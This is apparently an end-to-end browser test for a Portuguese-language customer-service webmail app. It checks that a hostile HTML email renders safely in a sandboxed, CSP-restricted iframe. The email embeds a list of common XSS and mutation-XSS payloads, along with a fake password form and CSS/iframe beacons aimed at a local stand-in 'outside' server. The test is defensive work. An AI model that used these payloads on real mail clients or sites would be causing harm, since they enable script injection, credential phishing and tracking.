import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { admin, expectAccessible, launch, logIn, openWindow, picture, url } from "./browser";
import { send } from "./smtp";

const stamp = Date.now();
const red =
  "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mP8z8BQz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC";

let browser: Browser;
/** What the outside was asked for. */
const asked: string[] = [];
const outside = createServer((request, response) => {
  asked.push(request.url ?? "");
  response.end();
});

// Payloads of the usual public collections: whatever one of them reaches would
// show as a dialog, a request to the outside, or a change of our page.
const hostile = (away: string) => `
<script>alert(1)</script><scr<script>ipt>alert(2)</scr</script>ipt>
<img src=x onerror=alert(3)><img src="${away}/pixel.png" alt="Oferta da semana" width="120" height="40">
<svg onload=alert(4)><script>alert(5)</script></svg><body onload=alert(6)>
<a href="javascript:alert(7)">não clique</a> <a href="https://loja.example/pedido">seu pedido</a>
<iframe src="${away}/frame"></iframe><iframe srcdoc="<script>alert(8)</script>"></iframe>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(9)&gt;">
<form action="${away}/steal"><input name="senha" placeholder="Sua senha"><button>Entrar</button></form>
<style>@import url(${away}/a.css); body{background:url(${away}/b.png)}</style>
<link rel="stylesheet" href="${away}/c.css"><base href="${away}/"><meta http-equiv="refresh" content="0;url=${away}/d">
<div style="position:fixed;inset:0;background:url(${away}/e.png);z-index:9999">Sua sessão terminou</div>
<object data="${away}/f"></object><embed src="${away}/g"><video src="${away}/h" autoplay onerror=alert(10)></video>
<details open ontoggle=alert(11)>x</details><noscript><p title="</noscript><img src=x onerror=alert(12)>">`;

const mail = (subject: string, html: string) =>
  [
    "From: =?utf-8?q?C=C3=A9lia_Moura?= <celia@cliente.example>",
    "To: SAC <sac@aroeira.example>",
    "Cc: Procon <procon@cidade.example>",
    `Subject: ${subject}`,
    `Message-ID: <${stamp}.${Math.random().toString(36).slice(2)}@cliente.example>`,
    "Date: Sun, 22 Nov 2026 09:00:00 -0300",
    "MIME-Version: 1.0",
    'Content-Type: multipart/related; boundary="x"',
    "",
    "--x",
    'Content-Type: multipart/alternative; boundary="y"',
    "",
    "--y",
    "Content-Type: text/plain; charset=utf-8",
    "Content-Transfer-Encoding: 8bit",
    "",
    "Meu pedido veio errado. Segue a foto.",
    "",
    "Em 21 de nov. de 2026, SAC escreveu:",
    "> Como podemos ajudar?",
    "",
    "--y",
    "Content-Type: text/html; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    Buffer.from(html).toString("base64").replace(/.{76}/g, "$&\r\n"),
    "--y--",
    "--x",
    'Content-Type: image/png; name="foto.png"',
    "Content-Transfer-Encoding: base64",
    "Content-ID: <foto@cliente.example>",
    "Content-Disposition: inline; filename=foto.png",
    "",
    red,
    "--x--",
    "",
  ].join("\r\n");

async function openMail(page: Page, subject: string): Promise<void> {
  const link = page.getByRole("link", { name: new RegExp(subject) }).first();
  await link.click();
  await page.getByRole("heading", { name: subject }).waitFor();
  await page.getByText("Meu pedido veio errado.").last().waitFor();
}

beforeAll(async () => {
  browser = await launch();
  await new Promise<void>((done) => outside.listen(0, "127.0.0.1", done));
  const away = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  const shown = `<h2>Pedido 4411</h2><p>Meu pedido veio <b style="color:#b00020">errado</b>. Segue a foto:</p>
    <p><img src="cid:foto@cliente.example" alt="Foto" width="80" height="80"></p>`;
  await send("celia@cliente.example", mail(`Pedido errado ${stamp}`, shown + hostile(away)));
});
afterAll(async () => {
  await browser.close();
  await new Promise((done) => outside.close(done));
});

describe.each(["light", "dark"] as const)("in %s", (colorScheme) => {
  test("attacks 42 to 44: a hostile mail is shown, and does nothing", async () => {
    const context = await openWindow(browser, { colorScheme });
    const page = await context.newPage();
    page.setDefaultTimeout(20_000);
    const dialogs: string[] = [];
    const away: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    context.on("request", (request) => {
      if (!request.url().startsWith(url) && !/^(data|blob|about):/.test(request.url()))
        away.push(request.url());
    });
    await logIn(page, admin);
    await openMail(page, `Pedido errado ${stamp}`);
    await page.getByRole("button", { name: "Texto citado e assinatura" }).click();
    await page.getByText("Como podemos ajudar?").waitFor();
    await expectAccessible(page, `mail ${colorScheme}`);
    await picture(page, `email-texto-${colorScheme}`);

    await page.getByText("Detalhes do e-mail").click();
    await page.getByText("procon@cidade.example").waitFor();
    await page.getByRole("button", { name: "Ver como foi enviado" }).click();
    const frame = page.getByTitle("E-mail de Célia Moura como foi enviado");
    await frame.waitFor();
    const sandbox = await frame.getAttribute("sandbox");
    expect(sandbox).not.toMatch(/allow-(scripts|same-origin|forms|top-navigation)/);
    const sheet = frame.contentFrame();
    await sheet.getByRole("heading", { name: "Pedido 4411" }).waitFor();
    await picture(page, `email-enviado-${colorScheme}`);

    const source = (await frame.getAttribute("srcdoc"))!;
    expect(source).toContain("default-src 'none'");
    expect(source).toMatch(/<img[^>]+src="data:image\/png/);
    const dangerous = await page.evaluate((text) => {
      const { body } = new DOMParser().parseFromString(text, "text/html");
      return [...body.querySelectorAll("*")].flatMap((el) =>
        /^(script|style|iframe|form|input|button|object|embed|link|base|meta|svg|math|video)$/i.test(
          el.tagName,
        ) ||
        [...el.attributes].some((a) => /^on/i.test(a.name) || /javascript:|position|url\(/i.test(a.value))
          ? [el.outerHTML]
          : [],
      );
    }, source);
    expect(dangerous).toEqual([]);
    expect(await sheet.getByRole("link", { name: "seu pedido" }).getAttribute("rel")).toContain("noopener");

    // The outside is on this machine, where our server does not go for a stranger.
    await page.getByRole("button", { name: "Mostrar imagens da internet" }).click();
    await page.getByText(/pôde ser buscada|puderam ser buscadas/).waitFor();
    await expectAccessible(page, `mail as sent ${colorScheme}`);
    await picture(page, `email-imagens-${colorScheme}`);
    expect(dialogs).toEqual([]);
    expect(away).toEqual([]);
    expect(asked).toEqual([]);
    await context.close();
  });
});
